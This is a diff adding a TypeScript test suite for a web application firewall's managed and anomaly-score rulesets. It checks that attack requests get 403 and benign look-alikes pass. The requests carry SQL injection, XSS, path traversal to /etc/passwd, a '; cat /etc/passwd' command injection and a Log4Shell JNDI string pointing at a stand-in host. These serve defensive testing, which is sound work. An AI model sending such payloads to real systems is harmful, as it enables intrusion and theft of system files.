@@ -1,0 +1,141 @@
+import assert from "node:assert/strict";
+import { after, before, test } from "node:test";
+import { MANAGED, SCORE_EXCEEDED_RULE_ID, SCORES } from "#rules/managed/request-rulesets.ts";
+import { eventually, exchangeRaw, httpOrigin, siteOps, startEdge, type TestEdge, type TestOrigin } from "./test-edge.ts";
+import { rulesetOp } from "./test-entries.ts";
+
+let origin: TestOrigin;
+let edge: TestEdge;
+
+before(async () => {
+  origin = await httpOrigin((req, res) => req.resume().on("end", () => res.end("origin")));
+  edge = await startEdge(siteOps(origin.port));
+});
+after(async () => {
+  assert.deepEqual(edge.errors, []);
+  await edge.close();
+  origin.close();
+});
+
+type Rules = Parameters<typeof rulesetOp>[4];
+const PHASE = "http_request_firewall_managed";
+const execute = (id: string, overrides?: object, expression = "true"): Rules[number] => ({
+  action: "execute",
+  expression,
+  action_parameters: { id, version: "latest", ...(overrides === undefined ? {} : { overrides }) },
+});
+
+async function withRules(rules: Rules, work: () => Promise<void>, account: Rules = []): Promise<void> {
+  edge.replica.apply([rulesetOp("z", "zone", "zone", PHASE, rules), rulesetOp("a", "account", "account", PHASE, account)]);
+  edge.security.length = 0;
+  try {
+    await work();
+  } finally {
+    edge.replica.apply([
+      { kind: "ruleset", id: "z", value: null },
+      { kind: "ruleset", id: "a", value: null },
+    ]);
+  }
+}
+
+const statusOf = (answer: string): number => Number(answer.slice(9, 12));
+const BROWSER = "Host: www.example.com\r\nConnection: close\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\nAccept: */*\r\n";
+const get = async (target: string, more = ""): Promise<number> =>
+  statusOf(await exchangeRaw(edge.http, `GET ${target} HTTP/1.1\r\n${BROWSER}${more}\r\n`));
+const post = async (type: string, body: string): Promise<number> =>
+  statusOf(
+    await exchangeRaw(edge.http, `POST /form HTTP/1.1\r\n${BROWSER}Content-Type: ${type}\r\nContent-Length: ${body.length}\r\n\r\n${body}`),
+  );
+
+const UNION = "/search?q=1%20UNION%2F**%2FSELECT%20null,null";
+const idOf = (ruleset: typeof MANAGED, description: string): string =>
+  ruleset.rules.find((rule) => rule.description === description)?.id ?? "";
+
+test("without a deployment nothing is looked at; with one, attacks are blocked and told of, and visitors are not", async () => {
+  assert.equal(await get(UNION), 200);
+  await withRules([execute(MANAGED.id)], async () => {
+    assert.equal(await get(UNION), 403);
+    await eventually(() => edge.security.length === 1);
+    const [event] = edge.security;
+    assert.deepEqual(
+      [event?.ruleset_id, event?.rule_description, event?.action, event?.phase, event?.deployed_by, event?.status],
+      [MANAGED.id, "SQL injection: UNION SELECT", "block", PHASE, "z-1", 403],
+    );
+    assert.equal(await get("/search?q=student+union+select+committee"), 200);
+    assert.equal(await get("/", "X-Api-Version: ${jndi:ldap://evil.example/a}\r\n"), 403);
+    assert.equal(await get("/", "Cookie: a=b; c=%3Cscript%3Ealert(1)%3C%2Fscript%3E\r\n"), 403);
+    assert.equal(await get("/static/%2e%2e/%2e%2e/etc/passwd"), 403);
+    assert.equal(await post("application/json", '{"a":{"b":["\\u003cscript\\u003e"]}}'), 403);
+    assert.equal(await post("application/x-www-form-urlencoded", "name=O%27Brien&text=it%27s+fine"), 200);
+    assert.equal(await post("application/x-www-form-urlencoded", "name=%27+or+%271%27%3D%271"), 403);
+  });
+});
+
+test("overrides: a rule's own beats its tag's, and these the ruleset's; log lets through and leaves an event", async () => {
+  const union = idOf(MANAGED, "SQL injection: UNION SELECT");
+  await withRules([execute(MANAGED.id, { action: "log" })], async () => {
+    assert.equal(await get(UNION), 200);
+    await eventually(() => edge.security.some(({ action, rule_id }) => action === "log" && rule_id === union));
+  });
+  await withRules([execute(MANAGED.id, { action: "log", categories: [{ category: "sqli", action: "block" }] })], async () => {
+    assert.equal(await get(UNION), 403);
+    assert.equal(await get("/?q=%3Cscript%3E"), 200);
+  });
+  const off = { categories: [{ category: "sqli", action: "block" }], rules: [{ id: union, enabled: false }] };
+  await withRules([execute(MANAGED.id, off)], async () => assert.equal(await get(UNION), 200));
+  await withRules([execute(MANAGED.id, { enabled: false })], async () => assert.equal(await get("/?q=%3Cscript%3E"), 200));
+});
+
+test("exceptions beat overrides: a rule, a ruleset, and the rest of the phase", async () => {
+  const skip = (parameters: object): Rules[number] => ({
+    action: "skip",
+    expression: 'http.request.uri.path eq "/search"',
+    action_parameters: { ...parameters },
+  });
+  const rows: readonly (readonly [Rules[number], number])[] = [
+    [skip({ rules: { [MANAGED.id]: [idOf(MANAGED, "SQL injection: UNION SELECT")] } }), 200],
+    [skip({ rules: { [MANAGED.id]: [idOf(MANAGED, "SQL injection: waiting")] } }), 403],
+    [skip({ rulesets: [MANAGED.id] }), 200],
+    [skip({ rulesets: [SCORES.id] }), 403],
+    [skip({ ruleset: "current" }), 200],
+  ];
+  for (const [exception, status] of rows)
+    await withRules([exception, execute(MANAGED.id, { action: "block" })], async () => {
+      assert.equal(await get(UNION), status, JSON.stringify(exception.action_parameters));
+      assert.equal(await get(UNION.replace("/search", "/other")), 403);
+    });
+});
+
+test("scores add up to the threshold, by the levels of paranoia that are on", async () => {
+  const attack =
+    "/?a=%3Cscript%3Ealert(1)%3C/script%3E&b=1%20union%20select%20null,null&c=../../../../etc/passwd&d=%3B%20cat%20/etc/passwd";
+  const at = (score_threshold: number, more: object = {}): Rules => [
+    execute(SCORES.id, { rules: [{ id: SCORE_EXCEEDED_RULE_ID, score_threshold }], ...more }),
+  ];
+  await withRules(at(25), async () => {
+    assert.equal(await get(attack), 403);
+    await eventually(() => edge.security.length === 1);
+    assert.deepEqual(
+      [edge.security[0]?.rule_id, edge.security[0]?.rule_description],
+      [SCORE_EXCEEDED_RULE_ID, "949110: Inbound Anomaly Score Exceeded"],
+    );
+    assert.equal(await get("/?a=hello"), 200);
+  });
+  await withRules(at(10_000), async () => assert.equal(await get(attack), 200));
+  const first = { categories: [2, 3, 4].map((level) => ({ category: `paranoia-level-${level}`, enabled: false })) };
+  // Markup alone adds up to something only at the higher levels.
+  await withRules(at(3, first), async () => assert.equal(await get("/?a=%3Cp%3Ehello%3C/p%3E"), 200));
+  await withRules(at(3), async () => assert.equal(await get("/?a=%3Cp%3Ehello%3C/p%3E"), 403));
+});
+
+test("the account's deployment runs before the zone's, each where its expression applies", async () => {
+  const account = [execute(MANAGED.id, undefined, 'http.request.uri.path eq "/account"')];
+  await withRules(
+    [execute(MANAGED.id, { action: "log" })],
+    async () => {
+      assert.equal(await get(UNION.replace("/search", "/account")), 403);
+      assert.equal(await get(UNION), 200);
+    },
+    account,
+  );
+});
